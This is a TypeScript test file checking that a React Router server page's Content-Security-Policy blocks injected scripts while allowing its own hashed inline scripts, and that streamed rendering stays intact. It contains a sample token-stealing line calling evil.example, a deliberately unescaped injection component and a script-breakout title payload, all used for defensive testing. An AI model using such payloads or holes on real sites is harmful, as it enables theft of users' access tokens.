import { createHash } from 'node:crypto'
import { runInNewContext } from 'node:vm'
import { type ComponentType, lazy, Suspense } from 'react'
import { createRequestHandler, Outlet, Scripts, type ServerBuild } from 'react-router'
import { describe, expect, test } from 'vitest'
import handleRequest from './entry.server.tsx'

const STOLEN = 'fetch("https://evil.example/" + localStorage.access_token)'
const hashOf = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`

/** What a missing escape would do: markup from a catalogue stands in the page unchanged. */
function Holed() {
  return (
    <html lang="id">
      <head>
        <link rel="stylesheet" href="/style.css" precedence="default" />
        <title>Uji</title>
      </head>
      <body>
        {/* biome-ignore lint/security/noDangerouslySetInnerHtml: the hole is the test's subject */}
        <div dangerouslySetInnerHTML={{ __html: `<script>${STOLEN}</script>` }} />
        <Outlet />
        <Scripts />
      </body>
    </html>
  )
}

const entry = { id: 'root', path: '', module: '/assets/root.js', hasLoader: false, hasAction: false }
const buildOf = (Page: ComponentType, loader?: () => unknown) =>
  ({
    entry: { module: { default: handleRequest } },
    routes: {
      root: { id: 'root', path: '', module: { default: Holed } },
      page: { id: 'page', parentId: 'root', index: true, module: { default: Page, loader } },
    },
    assets: {
      entry: { module: '/assets/entry.js', imports: [] },
      routes: {
        root: { ...entry, hasClientAction: false, hasClientLoader: false, hasErrorBoundary: false },
        page: {
          ...entry,
          id: 'page',
          parentId: 'root',
          index: true,
          module: '/assets/page.js',
          hasLoader: loader !== undefined,
          hasClientAction: false,
          hasClientLoader: false,
          hasErrorBoundary: false,
        },
      },
      url: '/assets/manifest.js',
      version: '1',
    },
    assetsBuildDirectory: 'build/client',
    basename: '/',
    publicPath: '/',
    future: {},
    ssr: true,
    isSpaMode: false,
    prerender: [],
    routeDiscovery: { mode: 'initial' },
  }) as unknown as ServerBuild

async function open(Page: ComponentType = () => <p>Isi</p>, loader?: () => unknown) {
  const handle = createRequestHandler(buildOf(Page, loader), 'production')
  const response = await handle(new Request('https://toko.example/'))
  return {
    status: response.status,
    html: await response.text(),
    policy: response.headers.get('content-security-policy') ?? '',
  }
}

const inlineScripts = (html: string) =>
  [...html.matchAll(/<script\b(?![^>]*\ssrc=)[^>]*>([\s\S]*?)<\/script>/g)].map(([, code = '']) => code)

describe('F33 a script that came into a page through a hole', () => {
  test('stands in the page and is not allowed to run', async () => {
    const { html, policy } = await open()
    expect(html).toContain(STOLEN)
    expect(policy).not.toContain(hashOf(STOLEN))
    expect(policy).not.toContain("'unsafe-inline' 'sha256")
  })

  test('does not keep the page’s own scripts from running', async () => {
    const { html, policy } = await open()
    const own = inlineScripts(html).filter((code) => code !== STOLEN && code !== '')
    expect(own.length).toBeGreaterThanOrEqual(2)
    for (const code of own) expect(policy).toContain(hashOf(code))
  })

  test('finds no mark in the page that it could carry: two visits differ in nothing', async () => {
    const [first, second] = [await open(), await open()]
    expect(first).toEqual(second)
    expect(first.html).not.toContain('nonce')
  })
})

describe('§2 a page that is rendered on the server', () => {
  test('is whole when a part of it waits for its code', async () => {
    const Late = lazy(async () => ({ default: () => <p>Bagian yang menunggu</p> }))
    const { status, html } = await open(() => (
      <Suspense fallback={<p>Memuat</p>}>
        <Late />
      </Suspense>
    ))
    expect(status).toBe(200)
    expect(html).toContain('Bagian yang menunggu')
    expect(html).not.toContain('Memuat')
    expect(html.match(/<!DOCTYPE html>/g)).toHaveLength(1)
    expect(html).toMatch(/^<!DOCTYPE html><html/)
  })

  test('is no page that may be kept when a part of it fails', async () => {
    const Broken = () => {
      throw new Error('broken on purpose')
    }
    const { status } = await open(() => (
      <Suspense fallback={<p>Memuat</p>}>
        <Broken />
      </Suspense>
    ))
    expect(status).toBe(500)
  })

  test('hands its data over to the browser, whatever a title holds', async () => {
    const title = '</script><script>steal()</script> & <!-- \u2028'
    const { html, policy } = await open(undefined, () => ({ title }))
    expect(html).toMatch(/^<!DOCTYPE html><html.*<\/body><\/html>$/s)
    const script = inlineScripts(html).find((code) => code.includes('.enqueue('))
    expect(policy).toContain(hashOf(script ?? ''))
    const taken: string[] = []
    const streamController = {
      enqueue: (text: string) => taken.push(text),
      close: () => taken.push('closed'),
    }
    runInNewContext(script ?? '', { window: { __reactRouterContext: { streamController } } })
    expect(taken).toHaveLength(2)
    expect(JSON.parse(taken[0] ?? '')).toContain(title)
    expect(taken[1]).toBe('closed')
  })
})
